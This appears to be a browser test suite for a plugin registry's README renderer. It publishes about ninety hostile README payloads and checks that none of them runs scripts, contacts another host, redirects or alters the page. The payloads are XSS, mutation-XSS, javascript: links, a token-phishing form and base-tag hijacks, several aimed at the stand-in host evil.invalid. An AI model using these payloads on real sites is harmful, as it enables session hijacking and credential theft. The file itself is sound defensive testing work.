"""READMEs that try to run a script, load a file, restyle the page or lead a reader astray.

Each does something that can be seen: opens a dialog, sets `window.pwned`, asks another host, or
leaves an element or attribute that has no place in a README.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.utils.safestring import mark_safe
from markdown_it import MarkdownIt
from playwright.sync_api import Browser, Page

from dougong_registry.web import readme

pytestmark = [
    pytest.mark.slow,
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.filterwarnings("ignore:No directory at:UserWarning"),
]
EVIL = "https://evil.invalid"
PAYLOADS: dict[str, str] = {
    "script": "<script>window.pwned=1;alert(1)</script>",
    "script-src": f'<script src="{EVIL}/x.js"></script>',
    "script-case": "<ScRiPt>alert(1)</sCrIpT >",
    "script-module": f'<script type="module">import "{EVIL}/m.js"</script>',
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed": "<script>alert(1)//",
    "script-same-origin": '<script src="/static/dougong/site.js"></script>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-slash": "<img/src=x/onerror=alert(1)>",
    "img-newline": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "img-remote": f'<img src="{EVIL}/pixel.gif">',
    "img-srcset": f'<img srcset="{EVIL}/2x.png 2x" src=x>',
    "img-markdown": f"![pixel]({EVIL}/pixel.gif)",
    "img-markdown-breakout": '![x" onerror="alert(1)](x)',
    "body-onload": "<body onload=alert(1)>",
    "svg-onload": "<svg onload=alert(1)></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:alert(1)"/>x</a></svg>',
    "svg-use": f'<svg><use href="{EVIL}/x.svg#a"/></svg>',
    "svg-foreign": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg-set": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "math-href": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x',
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img onerror=alert(1)>",
    "mutation-svg-style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation-template": "<template><img src=x onerror=alert(1)></template>",
    "mutation-textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "mutation-title": "<title><img src=x onerror=alert(1)></title>",
    "mutation-xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "mutation-plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "style-tag": "<style>body{display:none}</style>",
    "style-import": f"<style>@import '{EVIL}/x.css';</style>",
    "style-attribute": '<p style="position:fixed;inset:0;background:red">over the page</p>',
    "style-url": f'<p style="background:url({EVIL}/x.png)">x</p>',
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "link-prefetch": f'<link rel="prefetch" href="{EVIL}/x">',
    "iframe": f'<iframe src="{EVIL}"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "object-javascript": '<object data="javascript:alert(1)"></object>',
    "embed": f'<embed src="{EVIL}/x.svg">',
    "video": f'<video src="{EVIL}/x.mp4" autoplay onloadstart=alert(1)></video>',
    "audio-source": "<audio><source onerror=alert(1) src=x></audio>",
    "form": f'<form action="{EVIL}"><input name="token"><button>Sign in</button></form>',
    "form-autofocus": "<input autofocus onfocus=alert(1)>",
    "form-button": '<button formaction="javascript:alert(1)">x</button>',
    "form-takes-over": '<form id="site-q"></form><input form="site-q" name="q">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": f'<base href="{EVIL}/">',
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "dialog": "<dialog open>Your session is over, sign in again</dialog>",
    "javascript-link": "[x](javascript:alert(1))",
    "javascript-case": "[x](JaVaScRiPt:alert(1))",
    "javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript-newline": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript-entity-markdown": "[x](&#106;avascript&colon;alert(1))",
    "javascript-control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript-reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript-autolink": "<javascript:alert(1)>",
    "javascript-picture": "![x](javascript:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "file-link": "[x](file:///etc/passwd)",
    "relative-post": "[free tokens](/api/v1/submissions)",
    "scheme-relative": "[x](//evil.invalid)",
    "title-breakout": "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    "url-breakout": '[x](https://example.org/"onmouseover="alert(1))',
    "code-fence-info": '```"><script>alert(1)</script>\ncode\n```',
    "code-inline": "`<script>alert(1)</script>`",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment-bang": "<!--!><img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "processing": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "closes-the-page": "</div></section></main></body></html><script>alert(1)</script>",
    "heading-html": "<h1 id=content>Hub maintenance</h1>",
    "clobber": '<a id="tip" name="location">x</a><img name="body">',
    "class-and-id": '<p class="badge passed" id="content">judged</p>',
    "data-htmx": f'<p hx-get="{EVIL}" hx-trigger="load">x</p><p hx-on:load="alert(1)">',
    "table-html": "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</table>",
    "half-open": '<a href="https://example.org" onclick="alert(1)',
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "nested-markdown": "[a [b](javascript:alert(1)) c](javascript:alert(2))",
    "html-in-link": "[<img src=x onerror=alert(1)>](https://example.org)",
    "html-in-table": "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
}
FOREIGN = """() => [...document.querySelectorAll('.readme *')].flatMap(element => {
  const allowed = {A: ['href', 'title', 'rel'], OL: ['start'], PRE: ['tabindex']};
  const tags = ('A P BR HR H3 H4 H5 H6 BLOCKQUOTE PRE CODE KBD SAMP STRONG EM B I S DEL SUB SUP UL '
    + 'OL LI DL DT DD TABLE THEAD TBODY TR TH TD DETAILS SUMMARY').split(' ');
  const found = tags.includes(element.tagName) ? [] : [element.tagName];
  for (const {name} of element.attributes)
    if (!(allowed[element.tagName] || []).includes(name)) found.push(`${element.tagName} ${name}`);
  if (element.tagName === 'A' && element.hasAttribute('href')
      && !['http:', 'https:', 'mailto:'].includes(element.protocol)) found.push(element.href);
  return found;
})"""
WHOLE = """() => !!document.querySelector('main#content .readme')
  && !!document.querySelector('footer') && document.querySelectorAll('h1').length === 1
  && document.querySelectorAll('main').length === 1
  && getComputedStyle(document.body).display !== 'none'"""


class Watch:
    """Everything that a page must not do."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.host = page, urlsplit(url).netloc
        self.seen: list[str] = []
        page.on("dialog", self._dialog)
        page.on("console", lambda message: self.seen.append(f"console: {message.text}"))
        page.on("pageerror", lambda error: self.seen.append(f"error: {error}"))
        page.on("request", self._request)
        page.route(lambda address: urlsplit(address).netloc != self.host, lambda r: r.abort())

    def _dialog(self, dialog: Any) -> None:
        self.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if urlsplit(request.url).netloc != self.host:
            self.seen.append(f"request: {request.url}")

    def visit(self, address: str) -> list[str]:
        """Load a page, give its tricks a moment, and say what happened."""
        self.seen = []
        self.page.goto(address)
        self.page.wait_for_timeout(30)
        foreign = self.page.evaluate(FOREIGN)
        if self.page.evaluate("typeof window.pwned") != "undefined":
            self.seen.append("window.pwned is set")
        if self.page.url != address:
            self.seen.append(f"led to {self.page.url}")
        if not self.page.evaluate(WHOLE):
            self.seen.append("the page lost its shape")
        return self.seen + foreign


@pytest.fixture
def watch(browser: Browser, live_server: Any) -> Iterator[Watch]:
    page = browser.new_context().new_page()
    yield Watch(page, live_server.url)
    page.close()


def publish(hub: Any) -> dict[str, str]:
    """Publish one plugin for each payload; return name -> address of its page."""
    for number, payload in enumerate(PAYLOADS.values()):
        hub.submission(f"hostile-{number}", readme=f"before\n\n{payload}\n\nafter *all*")
    return {name: f"/plugins/hostile-{number}/" for number, name in enumerate(PAYLOADS)}


def test_there_are_many() -> None:
    assert len(PAYLOADS) >= 80


def test_no_readme_does_anything(hub: Any, live_server: Any, watch: Watch) -> None:
    found = {}
    for name, address in publish(hub).items():
        if happened := watch.visit(live_server.url + address):
            found[name] = happened
    assert found == {}


def test_the_watch_sees_what_an_unclean_readme_does(
    hub: Any, live_server: Any, watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unclean(core_metadata: str) -> str:
        html = MarkdownIt("commonmark", {"html": True}).render(core_metadata.partition("\n\n")[2])
        return mark_safe(html)

    monkeypatch.setattr(readme, "render", unclean)
    addresses = publish(hub)
    harmless = {"code-inline", "utf7"}  # text, in any hands
    for name in ("script", "img-remote", "iframe", "style-attribute", "base", "clobber"):
        assert watch.visit(live_server.url + addresses[name]), name
    for name in harmless:
        assert watch.visit(live_server.url + addresses[name]) == [], name
